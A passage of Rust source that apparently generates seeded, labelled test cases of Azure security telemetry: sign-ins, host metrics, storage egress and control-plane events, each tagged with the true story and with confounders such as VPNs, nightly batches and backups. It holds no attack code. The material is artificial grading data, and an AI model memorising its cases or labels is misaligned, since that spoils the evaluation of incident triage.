//! One incident's world, as Azure telemetry would show it: an organisation's users signing in (interactive and
//! not), a service principal, a host's performance counters or only its platform metrics, a storage account's
//! metrics, control-plane work, an alert with its entities and the incident; then what really happened (the
//! [`Story`], its [`Entry`] point) and what makes it hard to see (the [`Confounder`]s).
//!
//! Times are minutes from the incident's first activity, `t0`; every random choice comes from the case's seed,
//! so a case is the same rows on every run.

use serde::Serialize;
use serde_json::{json, Value};

use crate::model::time::{format_ticks, TICKS_PER_SEC};

/// A small, seeded, portable generator (SplitMix64): the same seed gives the same world everywhere.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x5EED_0FB4_1D6E)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in [0, 1).
    pub fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }

    pub fn range(&mut self, lo: f64, hi: f64) -> f64 {
        lo + (hi - lo) * self.unit()
    }

    /// Uniform in lo..=hi.
    pub fn int(&mut self, lo: i64, hi: i64) -> i64 {
        lo + (self.next_u64() % ((hi - lo + 1) as u64)) as i64
    }

    pub fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[(self.next_u64() % items.len() as u64) as usize]
    }

    /// Roughly normal noise (the sum of three uniforms), mean 0, spread about `sd`.
    pub fn noise(&mut self, sd: f64) -> f64 {
        (self.unit() + self.unit() + self.unit() - 1.5) * 2.0 * sd
    }
}

/// What really happened: the label a case is judged by.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Story {
    Cryptojacking,
    Exfiltration,
    ConfigDrift,
    CredentialCompromise,
    /// Ransomware: a VM's shadow copies deleted and its files encrypted, a database rewritten in place, or a
    /// storage account's blobs overwritten, with the way back taken away.
    Ransomware,
    BenignLoad,
    /// Nothing happened beyond the alert itself.
    Quiet,
}

/// How an attacker got in, when one did.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Entry {
    None,
    /// A success from a new country and network, sometimes rated risky.
    StolenPassword,
    /// MFA prompts refused or unanswered (500121, 50074, 50076) from one IP, then an approval from it.
    MfaFatigue,
    /// One IP failing against many of the organisation's users, then a success for ours from it.
    PasswordSpray,
    /// Many failures against our user from one IP, then a success from it.
    BruteForce,
    /// The actor is a service principal, signing in and acting from an IP it never used.
    ServicePrincipal,
    /// Many failed RDP (or SSH) logons to the host from one IP, then one that succeeded: the intruder works on
    /// the host with its local account, with no Azure sign-in at all.
    HostBruteForce,
}

/// What makes a case hard: the ways real telemetry differs from a clean scenario.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Confounder {
    /// Perf names the host by its FQDN; the alert by its short name.
    Fqdn,
    /// The VM has no Perf agent: only AzureMetrics, under its resource id (upper-cased, as AzureMetrics has it).
    MetricsOnly,
    /// The alert's account differs in case from the sign-in logs.
    UpnCase,
    /// The account is a guest: `name_domain#EXT#@tenant` in the logs.
    Guest,
    /// The user signs in through the organisation's VPN egress in another country for the first time.
    Vpn,
    /// The user alternates between two places (home and a proxy abroad) every week, minutes apart.
    Alternating,
    /// The host runs a batch every night that burns CPU; the alert fires on it.
    NightlyBatch,
    /// The host runs a batch every Sunday night.
    WeeklyBatch,
    /// Month-end backup: the storage account's egress by its usual principal at its usual hour.
    MonthEndBackup,
    /// The host and user appeared two days before the window: almost no baseline.
    ThinHistory,
    /// The incident has no alerts and no entities.
    NoEntities,
    /// The alert's entities match no telemetry.
    Unmatched,
    /// A colleague whose names contain ours (`joann.lee`, `vm-web-07` for `web-07`) has the anomalies.
    Neighbour,
    /// Our user mistyped a password, or missed an MFA prompt, a few times, from home.
    UsualIpFailures,
    /// A spray hit the organisation, ours included, and failed for us.
    SprayElsewhere,
    /// The actor does this control-plane change routinely (every week in the baseline).
    RoutineChange,
    /// The data leaves through the storage account: seen only in its metrics (Egress `Total`, `Count`
    /// transactions), with a per-transaction `Average` that does not move.
    ViaStorage,
    /// The database's nightly index rebuild: its log writes near 90% every night at the same hours.
    IndexRebuild,
    /// The backup service principal deletes the oldest snapshot of the host every week (retention).
    BackupRotation,
    /// The internet's scanners knock on the host's RDP or SSH port: failed logons from a few addresses, never a
    /// success.
    PortScanners,
    /// The host's metrics agent has always shipped to an internal collector on port 3333 (a mining pool's port).
    KnownPoolPort,
    /// The data taken is the key vault's: its secrets listed and read in bulk.
    ViaVault,
    /// The release pipeline reads its secrets at every run from a fresh address of its hosted agents' networks;
    /// the vault's "new IP address" rule fires on it.
    PipelineSecrets,
}

/// One labelled case.
#[derive(Debug, Clone, Serialize)]
pub struct CaseSpec {
    pub seed: u64,
    pub story: Story,
    pub entry: Entry,
    pub confounders: Vec<Confounder>,
    /// The incident's first activity (ticks).
    #[serde(skip)]
    pub t0: i64,
    /// The alert that raised the incident, when chosen rather than drawn from the seed.
    #[serde(skip)]
    pub alert: Option<AlertChoice>,
}

/// An alert a test chooses for its case.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AlertChoice {
    /// Defender for Cloud's "digital currency mining" detection on a throttled miner (its CPU 20 points over
    /// the host's own load), with or without the miner's process entity.
    DefenderMining { command_line: bool },
    /// Defender for Resource Manager's "suspicious Run Command" on the same throttled miner: it says nothing
    /// about mining.
    DefenderRunCommand,
}

impl CaseSpec {
    pub fn has(&self, c: Confounder) -> bool {
        self.confounders.contains(&c)
    }
}

/// Who and what a case is about; the demo's defaults, and what tests override to try hostile names.
#[derive(Debug, Clone)]
pub struct Cast {
    pub account: String,
    pub upn_suffix: String,
    pub host: String,
    pub attacker_ip: String,
    pub title: String,
}

impl Default for Cast {
    fn default() -> Self {
        Cast {
            account: "alice".into(),
            upn_suffix: "contoso.com".into(),
            host: "acme-web-02".into(),
            attacker_ip: "198.51.100.23".into(),
            title: String::new(),
        }
    }
}

impl Cast {
    pub fn upn(&self) -> String {
        format!("{}@{}", self.account, self.upn_suffix)
    }
}

/// Rows to stage, by stream.
pub struct Staged {
    pub streams: Vec<(String, Vec<Value>)>,
    pub incident_name: String,
}

pub const SUBSCRIPTION: &str = "00000000-0000-0000-0000-000000000000";
const HOME_ASN: i64 = 3215;
const VPN_IP: &str = "192.0.2.10";
const VPN_ASN: i64 = 64500;
const PROXY_IP: &str = "198.18.0.5";
const PROXY_ASN: i64 = 64501;
const PIPELINE_IP: &str = "13.107.6.152";

/// The ARM id of a host of the generator's worlds (its virtual machine).
pub fn host_resource_id(host: &str) -> String {
    resource_id("Microsoft.Compute/virtualMachines", host)
}

fn resource_id(provider: &str, name: &str) -> String {
    format!("/subscriptions/{SUBSCRIPTION}/resourceGroups/prod/providers/{provider}/{name}")
}

struct Place {
    country: &'static str,
    city: &'static str,
    lat: f64,
    lon: f64,
}

const PARIS: Place = Place { country: "FR", city: "Paris", lat: 48.8566, lon: 2.3522 };
const AMSTERDAM: Place = Place { country: "NL", city: "Amsterdam", lat: 52.37, lon: 4.90 };
const LONDON: Place = Place { country: "GB", city: "London", lat: 51.507, lon: -0.128 };
const ABROAD: [(Place, i64); 4] = [
    (Place { country: "BR", city: "São Paulo", lat: -23.55, lon: -46.63 }, 28573),
    (Place { country: "SG", city: "Singapore", lat: 1.35, lon: 103.82 }, 4773),
    (Place { country: "US", city: "Ashburn", lat: 39.04, lon: -77.49 }, 14618),
    (Place { country: "ZA", city: "Johannesburg", lat: -26.2, lon: 28.04 }, 37611),
];

/// A sign-in as the generator describes it, written to SigninLogs or AADNonInteractiveUserSignInLogs.
struct SignIn<'a> {
    minute: i64,
    upn: &'a str,
    ip: &'a str,
    asn: i64,
    place: &'a Place,
    result: &'a str,
    device: &'a str,
    risk: &'a str,
}

struct Builder<'a> {
    spec: &'a CaseSpec,
    rng: Rng,
    signins: Vec<Value>,
    noninteractive: Vec<Value>,
    sp_signins: Vec<Value>,
    activity: Vec<Value>,
    perf: Vec<Value>,
    metrics: Vec<Value>,
    alerts: Vec<Value>,
    trapeye: Vec<Value>,
    noxys: Vec<Value>,
    security_events: Vec<Value>,
    security_events_linux: Vec<Value>,
    vm_connections: Vec<Value>,
    diagnostics: Vec<Value>,
    heartbeats: Vec<Value>,
    blob_logs: Vec<Value>,
}

impl Builder<'_> {
    fn at(&self, minute: i64) -> String {
        format_ticks(self.spec.t0 + minute * 60 * TICKS_PER_SEC)
    }

    /// Hour of day and day of week (0 = Sunday) of a minute offset.
    fn clock(&self, minute: i64) -> (i64, i64) {
        let t = self.spec.t0 + minute * 60 * TICKS_PER_SEC;
        let secs = t.div_euclid(TICKS_PER_SEC);
        let hour = secs.div_euclid(3600).rem_euclid(24);
        // Ticks count from the Unix epoch, 1970-01-01, a Thursday.
        let dow = (secs.div_euclid(86_400) + 4).rem_euclid(7);
        (hour, dow)
    }

    /// The minute offset of midnight `days` days before t0's day.
    fn midnight(&self, days: i64) -> i64 {
        let secs = (self.spec.t0 / TICKS_PER_SEC).rem_euclid(86_400);
        -(secs / 60) - days * 24 * 60
    }

    /// Whether a minute offset falls on the last day of its month.
    fn month_end(&self, minute: i64) -> bool {
        let next_day = format_ticks(self.spec.t0 + (minute + 24 * 60) * 60 * TICKS_PER_SEC);
        next_day.get(8..10) == Some("01")
    }

    fn signin(&mut self, s: SignIn, interactive: bool) {
        let loc = json!({"countryOrRegion": s.place.country, "city": s.place.city, "geoCoordinates": {"latitude": s.place.lat, "longitude": s.place.lon}});
        let device = json!({"deviceId": s.device, "operatingSystem": "Windows 11", "browser": "Edge 131"});
        let status = json!({"errorCode": s.result.parse::<i64>().unwrap_or(0)});
        let mut row = json!({"TimeGenerated": self.at(s.minute), "UserPrincipalName": s.upn, "UserId": uuid_of(s.upn), "IPAddress": s.ip,
            "ResultType": s.result, "AppDisplayName": if interactive { "Azure Portal" } else { "Microsoft Teams" }, "IsInteractive": interactive,
            "RiskLevelDuringSignIn": s.risk, "RiskState": if s.risk == "high" { "atRisk" } else { "none" }, "UserType": if s.upn.contains("#ext#") || s.upn.contains("#EXT#") { "Guest" } else { "Member" }});
        if interactive {
            row["AutonomousSystemNumber"] = json!(s.asn.to_string());
            row["LocationDetails"] = loc;
            row["DeviceDetail"] = device;
            row["Status"] = status;
            self.signins.push(row);
        } else {
            // The non-interactive table keeps these as JSON text (the ASN is a string in both).
            row["AutonomousSystemNumber"] = json!(s.asn.to_string());
            row["LocationDetails"] = json!(loc.to_string());
            row["DeviceDetail"] = json!(device.to_string());
            row["Status"] = json!(status.to_string());
            self.noninteractive.push(row);
        }
    }

    fn op(&mut self, minute: i64, caller: &str, ip: &str, op: &str, resource: &str, properties: Value) {
        self.activity.push(json!({"TimeGenerated": self.at(minute), "Caller": caller, "CallerIpAddress": ip, "OperationNameValue": op,
            "ActivityStatusValue": "Success", "_ResourceId": resource, "ResourceGroup": "prod", "CategoryValue": "Administrative",
            "SubscriptionId": SUBSCRIPTION, "Properties_d": properties, "Properties": properties.to_string()}));
    }
}

/// A stable GUID for a name (object ids, app ids).
pub fn uuid_of(name: &str) -> String {
    uuid::Uuid::new_v5(&uuid::Uuid::NAMESPACE_OID, name.to_ascii_lowercase().as_bytes()).to_string()
}

/// The organisation's names for a case: derived from the seed unless the cast names them.
struct Names {
    user: String,
    suffix: String,
    /// As the logs spell it (the guest form for a guest).
    logged_upn: String,
    colleagues: Vec<String>,
    neighbour: String,
    host: String,
    neighbour_host: String,
    storage: String,
    attacker_ip: String,
    sp_name: String,
    sp_app_id: String,
}

const FIRST: [&str; 8] = ["ann.lee", "li.wei", "omar.haddad", "sara.berg", "tom.nash", "eva.ruiz", "ken.ito", "mia.roth"];
const HOSTS: [&str; 6] = ["web-07", "app-12", "db-03", "api-21", "etl-05", "build-09"];

fn names(spec: &CaseSpec, rng: &mut Rng, cast: Option<&Cast>) -> Names {
    let (user, suffix, host, attacker_ip) = match cast {
        Some(c) => (c.account.clone(), c.upn_suffix.clone(), c.host.clone(), c.attacker_ip.clone()),
        None => {
            let u = rng.pick(&FIRST).to_string();
            let h = format!("vm-{}", rng.pick(&HOSTS));
            let suffix = if spec.has(Confounder::Guest) { "fabrikam.com" } else { "contoso.com" };
            (u, suffix.to_string(), h, format!("198.51.100.{}", rng.int(20, 250)))
        }
    };
    let upn = format!("{user}@{suffix}");
    let logged_upn = if spec.has(Confounder::Guest) { format!("{user}_{suffix}#EXT#@contoso.onmicrosoft.com") } else { upn.to_ascii_lowercase() };
    let colleagues = FIRST.iter().filter(|u| **u != user).map(|u| format!("{u}@contoso.com")).collect();
    let sp_name = "deploy-pipeline".to_string();
    Names {
        neighbour: format!("jo{user}@contoso.com"),
        neighbour_host: format!("prod-{host}"),
        storage: format!("stfinance{:02}", rng.int(1, 99)),
        sp_app_id: uuid_of(&format!("app:{sp_name}")),
        user,
        suffix,
        logged_upn,
        colleagues,
        host,
        attacker_ip,
        sp_name,
    }
}

/// Builds a case's telemetry, alert and incident. `cast` fixes the names (the demo and its tests).
pub fn build(spec: &CaseSpec, cast: Option<&Cast>, incident_name: &str, incident_number: i64) -> Staged {
    let mut rng = Rng::new(spec.seed);
    let n = names(spec, &mut rng, cast);
    let thin = spec.has(Confounder::ThinHistory);
    // 36 days: a 30-day baseline before the 3-day look-around, and the previous month's end.
    let history_min = if thin { 5 * 24 * 60 } else { 36 * 24 * 60 };
    let mut b = Builder {
        spec,
        rng: Rng::new(spec.seed.wrapping_mul(31).wrapping_add(7)),
        signins: Vec::new(),
        noninteractive: Vec::new(),
        sp_signins: Vec::new(),
        activity: Vec::new(),
        perf: Vec::new(),
        metrics: Vec::new(),
        alerts: Vec::new(),
        trapeye: Vec::new(),
        noxys: Vec::new(),
        security_events: Vec::new(),
        security_events_linux: Vec::new(),
        vm_connections: Vec::new(),
        diagnostics: Vec::new(),
        heartbeats: Vec::new(),
        blob_logs: Vec::new(),
    };
    let sp_actor = spec.entry == Entry::ServicePrincipal;
    let upn = n.logged_upn.clone();
    let attacker = n.attacker_ip.clone();
    let (abroad, abroad_asn) = {
        let (p, asn) = rng.pick(&ABROAD);
        (Place { country: p.country, city: p.city, lat: p.lat, lon: p.lon }, *asn)
    };

    // --- Ordinary life: sign-ins of everyone, the pipeline's, routine control-plane work. ---
    let home_ip = |i: usize| format!("203.0.113.{}", 10 + i);
    let mut people: Vec<(String, String, bool)> = vec![(upn.clone(), home_ip(0), false)];
    for (i, c) in n.colleagues.iter().enumerate() {
        // Half the colleagues work through the VPN (a shared egress in another country) some days.
        people.push((c.clone(), home_ip(i + 1), i % 2 == 0));
    }
    if spec.has(Confounder::Neighbour) {
        people.push((n.neighbour.clone(), home_ip(40), false));
    }
    let days = history_min / (24 * 60);
    for (k, (who, ip, vpn_user)) in people.iter().enumerate() {
        let mine = k == 0;
        if mine && spec.has(Confounder::Unmatched) {
            continue;
        }
        let device = format!("dev-{}", uuid_of(who).get(..8).unwrap_or("0"));
        for d in (0..=days).rev() {
            let base = b.midnight(d);
            let (_, dow) = b.clock(base + 9 * 60);
            if dow == 0 || dow == 6 {
                continue;
            }
            let m = base + 8 * 60 + b.rng.int(0, 120);
            if m >= -60 {
                continue; // the window's own sign-ins are the story's
            }
            let via_vpn = *vpn_user && b.rng.chance(0.5);
            let (sip, asn, place) = if via_vpn { (VPN_IP.to_string(), VPN_ASN, &AMSTERDAM) } else { (ip.clone(), HOME_ASN, &PARIS) };
            b.signin(SignIn { minute: m, upn: who, ip: &sip, asn, place, result: "0", device: &device, risk: "none" }, true);
            b.signin(SignIn { minute: m + 300, upn: who, ip: &sip, asn, place, result: "0", device: &device, risk: "none" }, false);
            if mine && spec.has(Confounder::Alternating) {
                // Home, then the London proxy minutes later: "impossible travel", every week.
                b.signin(SignIn { minute: m + 20, upn: who, ip: PROXY_IP, asn: PROXY_ASN, place: &LONDON, result: "0", device: &device, risk: "none" }, true);
            }
        }
    }
    // The subject's own sign-ins in the window, from home (the story may add others).
    let my_device = format!("dev-{}", uuid_of(&upn).get(..8).unwrap_or("0"));
    if !spec.has(Confounder::Unmatched) {
        b.signin(SignIn { minute: -150, upn: &upn, ip: &home_ip(0), asn: HOME_ASN, place: &PARIS, result: "0", device: &my_device, risk: "none" }, true);
        if spec.has(Confounder::Alternating) {
            b.signin(SignIn { minute: -120, upn: &upn, ip: PROXY_IP, asn: PROXY_ASN, place: &LONDON, result: "0", device: &my_device, risk: "none" }, true);
        }
        if spec.has(Confounder::Vpn) {
            b.signin(SignIn { minute: -40, upn: &upn, ip: VPN_IP, asn: VPN_ASN, place: &AMSTERDAM, result: "0", device: &my_device, risk: "none" }, true);
        }
        if spec.has(Confounder::UsualIpFailures) {
            let code = *b.rng.pick(&["50126", "500121"]);
            for k in 0..b.rng.int(3, 8) {
                b.signin(
                    SignIn { minute: -70 + k, upn: &upn, ip: &home_ip(0), asn: HOME_ASN, place: &PARIS, result: code, device: &my_device, risk: "none" },
                    true,
                );
            }
            b.signin(SignIn { minute: -55, upn: &upn, ip: &home_ip(0), asn: HOME_ASN, place: &PARIS, result: "0", device: &my_device, risk: "none" }, true);
        }
    }
    if spec.has(Confounder::SprayElsewhere) || spec.entry == Entry::PasswordSpray {
        let victims: Vec<String> = std::iter::once(upn.clone()).chain(n.colleagues.iter().cloned()).collect();
        for (k, v) in victims.iter().enumerate() {
            b.signin(
                SignIn { minute: -100 + k as i64 * 2, upn: v, ip: &attacker, asn: abroad_asn, place: &abroad, result: "50126", device: "", risk: "none" },
                true,
            );
        }
    }
    // The pipeline's service principal: every six hours from its usual IP.
    let sp_sign = |b: &mut Builder, minute: i64, ip: &str, place: &Place, result: &str| {
        let loc = json!({"countryOrRegion": place.country, "city": place.city}).to_string();
        b.sp_signins.push(json!({"TimeGenerated": b.at(minute), "AppId": n.sp_app_id, "ServicePrincipalId": uuid_of(&format!("sp:{}", n.sp_name)),
            "ServicePrincipalName": n.sp_name, "IPAddress": ip, "LocationDetails": loc, "ResultType": result, "ResourceDisplayName": "Windows Azure Service Management API",
            "Category": "ServicePrincipalSignInLogs", "OperationName": "Sign-in activity"}));
    };
    let mut m = -history_min + 30;
    while m < -30 {
        sp_sign(&mut b, m, PIPELINE_IP, &AMSTERDAM, "0");
        m += 360;
    }
    let vmss = resource_id("Microsoft.Compute/virtualMachineScaleSets", "web-vmss");
    let nsg_rule = resource_id("Microsoft.Network/networkSecurityGroups", "web-nsg/securityRules/allow-office-443");
    // Routine work: the pipeline scales the web tier every few days from its IP; our user (a network admin,
    // when RoutineChange) edits NSG rules every week.
    let mut d = 3;
    while d * 24 * 60 < history_min - 60 {
        b.op(-(d * 24 * 60) + 60, &n.sp_app_id, PIPELINE_IP, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE", &vmss, json!({}));
        d += 3;
    }
    if spec.has(Confounder::RoutineChange) {
        let mut d = 7;
        while d * 24 * 60 < history_min - 60 {
            b.op(-(d * 24 * 60) + 120, &upn, &home_ip(0), "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE", &nsg_rule, json!({}));
            d += 7;
        }
        b.op(-45, &upn, &home_ip(0), "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE", &nsg_rule, json!({}));
    }

    // --- The entry point. ---
    let attacker_in = spec.entry != Entry::None;
    let (actor, actor_ip) = if sp_actor {
        (n.sp_app_id.clone(), attacker.clone())
    } else if spec.entry == Entry::HostBruteForce {
        // In through the host's own logon: nothing of it reaches Azure's sign-in logs.
        (upn.clone(), home_ip(0))
    } else if attacker_in {
        (upn.clone(), attacker.clone())
    } else {
        (upn.clone(), home_ip(0))
    };
    match spec.entry {
        Entry::None => {}
        Entry::StolenPassword => {
            let risk = if b.rng.chance(0.5) { "high" } else { "none" };
            b.signin(SignIn { minute: -90, upn: &upn, ip: &attacker, asn: abroad_asn, place: &abroad, result: "0", device: "", risk }, true);
        }
        Entry::MfaFatigue => {
            let prompts = b.rng.int(8, 25);
            let span = b.rng.int(20, 120);
            for k in 0..prompts {
                let code = *b.rng.pick(&["500121", "50074", "50076"]);
                b.signin(
                    SignIn {
                        minute: -100 - span + k * span / prompts,
                        upn: &upn,
                        ip: &attacker,
                        asn: abroad_asn,
                        place: &abroad,
                        result: code,
                        device: "",
                        risk: "none",
                    },
                    true,
                );
            }
            b.signin(SignIn { minute: -95, upn: &upn, ip: &attacker, asn: abroad_asn, place: &abroad, result: "0", device: "", risk: "none" }, true);
        }
        Entry::PasswordSpray => {
            b.signin(SignIn { minute: -60, upn: &upn, ip: &attacker, asn: abroad_asn, place: &abroad, result: "0", device: "", risk: "none" }, true);
        }
        Entry::BruteForce => {
            for k in 0..b.rng.int(15, 40) {
                b.signin(
                    SignIn { minute: -130 + k, upn: &upn, ip: &attacker, asn: abroad_asn, place: &abroad, result: "50126", device: "", risk: "none" },
                    true,
                );
            }
            b.signin(SignIn { minute: -85, upn: &upn, ip: &attacker, asn: abroad_asn, place: &abroad, result: "0", device: "", risk: "none" }, true);
        }
        Entry::ServicePrincipal => sp_sign(&mut b, -80, &attacker, &abroad, "0"),
        // Written with the host's other events below, where its names are known.
        Entry::HostBruteForce => {}
    }
    if spec.has(Confounder::Neighbour) {
        // The colleague whose names contain ours is the one in trouble.
        let nb = n.neighbour.clone();
        b.signin(SignIn { minute: -90, upn: &nb, ip: &attacker, asn: abroad_asn, place: &abroad, result: "0", device: "", risk: "high" }, true);
        b.op(-30, &nb, &attacker, "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE", &resource_id("Microsoft.Authorization/roleAssignments", "77aa"), json!({}));
    }

    // --- The host: Perf every 15 minutes (or only AzureMetrics), with its rhythm and the story's load. ---
    let host_rid = resource_id("Microsoft.Compute/virtualMachines", &n.host);
    let perf_name = if spec.has(Confounder::Fqdn) { format!("{}.contoso.local", n.host) } else { n.host.clone() };
    // A miner is found within its first hour (a spike, never hours of it) or after a night of it: minutes it
    // ran before the alert.
    let trig = trigger(spec, cast);
    let throttled = trig.throttled_miner;
    let crypto_lead = if b.rng.chance(0.4) { b.rng.int(30, 60) } else { b.rng.int(180, 480) };
    let load_hours = b.rng.int(1, 3);
    let spike_level = b.rng.range(70.0, 90.0);
    let out_factor = b.rng.range(40.0, 120.0);
    let exfil_via_storage = spec.story == Story::Exfiltration && spec.has(Confounder::ViaStorage);
    let exfil_via_vault = spec.story == Story::Exfiltration && spec.has(Confounder::ViaVault);
    // Ransomware's target (drawn only for its story, so the other stories' draws stay as they were): the host
    // itself (its files, sometimes burning CPU), a database (rewritten in place), or a storage account.
    let ransom = if spec.story == Story::Ransomware && cast.is_some() {
        // The demo's: the design's database.
        Some((RansomTarget::Database, false))
    } else if spec.story == Story::Ransomware {
        let target = match b.rng.int(0, 9) {
            0..=3 => RansomTarget::Host,
            4..=6 => RansomTarget::Database,
            _ => RansomTarget::Storage,
        };
        Some((target, target == RansomTarget::Host && b.rng.chance(0.4)))
    } else {
        None
    };
    let mut hosts = vec![(perf_name.clone(), host_rid.clone(), true)];
    if spec.has(Confounder::Neighbour) {
        hosts.push((n.neighbour_host.clone(), resource_id("Microsoft.Compute/virtualMachines", &n.neighbour_host), false));
    }
    // The incident is enriched minutes after its alert, or hours later: telemetry runs this long past it.
    // (A month-end backup's alert fires on the backup under way: its telemetry runs on past the alert.)
    let enriched_soon = b.rng.chance(0.5);
    let end = if enriched_soon && !spec.has(Confounder::MonthEndBackup) { 15 } else { 120 };
    for (name, rid, mine) in hosts {
        if mine && spec.has(Confounder::Unmatched) {
            continue;
        }
        let mut m = -history_min;
        while m < end {
            let (hour, dow) = b.clock(m);
            let weekend = dow == 0 || dow == 6;
            let busy = !weekend && (8..18).contains(&hour);
            let mut cpu = if busy {
                25.0
            } else if weekend {
                6.0
            } else {
                9.0
            } + b.rng.noise(2.5);
            let mut sent = if busy { 52_000.0 } else { 21_000.0 } + b.rng.noise(4_000.0);
            let mut recv = if busy { 81_000.0 } else { 30_000.0 } + b.rng.noise(6_000.0);
            let mut free = 6_000.0 + b.rng.noise(300.0);
            if mine {
                if spec.has(Confounder::NightlyBatch) && (1..3).contains(&hour) {
                    cpu = 86.0 + b.rng.noise(4.0);
                }
                // The batch is started on the host by its automation account's Run Command, every night.
                if spec.has(Confounder::NightlyBatch) && hour == 1 && b.clock(m - 15).0 == 0 && m < end {
                    b.op(m, BATCH_AUTOMATION, "20.38.98.7", "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", &rid, json!({}));
                }
                if spec.has(Confounder::WeeklyBatch) && dow == 0 && (1..4).contains(&hour) {
                    cpu = 91.0 + b.rng.noise(3.0);
                }
                match spec.story {
                    // A throttled miner (`--max-cpu-usage`) adds its share to the host's own load.
                    Story::Cryptojacking if m >= -crypto_lead && throttled => cpu += 20.0 + b.rng.noise(2.0),
                    Story::Cryptojacking if m >= -crypto_lead => cpu = 97.0 + b.rng.noise(1.0),
                    Story::BenignLoad
                        if !spec.has(Confounder::NightlyBatch)
                            && !spec.has(Confounder::WeeklyBatch)
                            && !spec.has(Confounder::MonthEndBackup)
                            && !spec.has(Confounder::IndexRebuild)
                            && (-30..load_hours * 60 - 30).contains(&m) =>
                    {
                        cpu = spike_level + b.rng.noise(3.0);
                        free -= 1_500.0;
                    }
                    Story::Exfiltration if !exfil_via_storage && !exfil_via_vault && (-60..60).contains(&m) => sent *= out_factor,
                    // Encrypting a disk's files burns CPU for as long as it runs.
                    Story::Ransomware if ransom == Some((RansomTarget::Host, true)) && (-40..60).contains(&m) => cpu = 93.0 + b.rng.noise(2.0),
                    Story::ConfigDrift if (0..60).contains(&m) && b.rng.chance(0.7) => recv *= 60.0,
                    _ => {}
                }
            } else if (0..120).contains(&m) {
                cpu = 98.0;
            }
            let t = b.at(m);
            if mine && spec.has(Confounder::MetricsOnly) {
                // AzureMetrics: the platform's per-resource rows, the resource id upper-cased as it stores it.
                let upper = rid.to_ascii_uppercase();
                for (metric, avg, count, unit) in [("Percentage CPU", cpu, 15.0, "Percent"), ("Network Out Total", sent * 60.0, 15.0, "Bytes")] {
                    let total = if unit == "Bytes" { avg * 15.0 } else { avg * count };
                    b.metrics.push(json!({"TimeGenerated": t, "ResourceId": upper, "_ResourceId": rid.to_ascii_lowercase(), "Resource": n.host.to_ascii_uppercase(),
                        "ResourceProvider": "MICROSOFT.COMPUTE", "ResourceGroup": "PROD", "SubscriptionId": SUBSCRIPTION, "MetricName": metric,
                        "Average": if unit == "Bytes" { total / count } else { avg }, "Total": total, "Count": count, "Maximum": avg * 1.1, "Minimum": avg * 0.9,
                        "TimeGrain": "PT1M", "UnitName": unit}));
                }
            } else {
                for (object, counter, value) in [
                    ("Processor", "% Processor Time", cpu),
                    ("Network Adapter", "Bytes Sent/sec", sent),
                    ("Network Adapter", "Bytes Received/sec", recv),
                    ("Memory", "Available MBytes", free),
                ] {
                    b.perf.push(json!({"TimeGenerated": t, "Computer": name, "ObjectName": object, "CounterName": counter, "InstanceName": "_Total",
                        "CounterValue": value.clamp(0.0, if counter.starts_with('%') { 100.0 } else { f64::MAX }), "_ResourceId": rid, "SourceSystem": "OMS"}));
                }
            }
            m += 15;
        }
    }

    // --- The storage account: Egress as Azure reports it per time grain (Total bytes, Count transactions). ---
    let storage_rid = resource_id("Microsoft.Storage/storageAccounts", &n.storage);
    let ransom_storage = ransom.is_some_and(|(t, _)| t == RansomTarget::Storage);
    let storage_story = exfil_via_storage || spec.has(Confounder::MonthEndBackup) || ransom_storage;
    if storage_story {
        let backup_sp = uuid_of("app:backup-vault");
        let mut m = -history_min;
        while m < end {
            let (hour, _) = b.clock(m);
            let mut count = (300.0 + b.rng.noise(60.0)).max(10.0);
            let per_tx = 50_000.0 + b.rng.noise(8_000.0);
            let month_end = b.month_end(m);
            if spec.has(Confounder::MonthEndBackup) && month_end && (1..3).contains(&hour) {
                count *= 60.0;
            }
            if exfil_via_storage && (-45..45).contains(&m) {
                count *= out_factor;
            }
            // Bytes written: steady uploads; every blob overwritten with its encrypted copy in the attack.
            let mut ingress = (20_000_000.0 + b.rng.noise(3_000_000.0)).max(1_000_000.0);
            if ransom_storage && (-40..60).contains(&m) {
                ingress *= out_factor;
            }
            b.metrics.push(json!({"TimeGenerated": b.at(m), "ResourceId": storage_rid.to_ascii_uppercase(), "_ResourceId": storage_rid.to_ascii_lowercase(),
                "Resource": n.storage.to_ascii_uppercase(), "ResourceProvider": "MICROSOFT.STORAGE", "ResourceGroup": "PROD", "SubscriptionId": SUBSCRIPTION,
                "MetricName": "Ingress", "Total": ingress, "Count": count, "Average": ingress / count, "Maximum": ingress / count * 3.0, "Minimum": 512.0,
                "TimeGrain": "PT1M", "UnitName": "Bytes"}));
            let total = count * per_tx;
            b.metrics.push(json!({"TimeGenerated": b.at(m), "ResourceId": storage_rid.to_ascii_uppercase(), "_ResourceId": storage_rid.to_ascii_lowercase(),
                "Resource": n.storage.to_ascii_uppercase(), "ResourceProvider": "MICROSOFT.STORAGE", "ResourceGroup": "PROD", "SubscriptionId": SUBSCRIPTION,
                "MetricName": "Egress", "Total": total, "Count": count, "Average": total / count, "Maximum": per_tx * 3.0, "Minimum": 512.0,
                "TimeGrain": "PT1M", "UnitName": "Bytes"}));
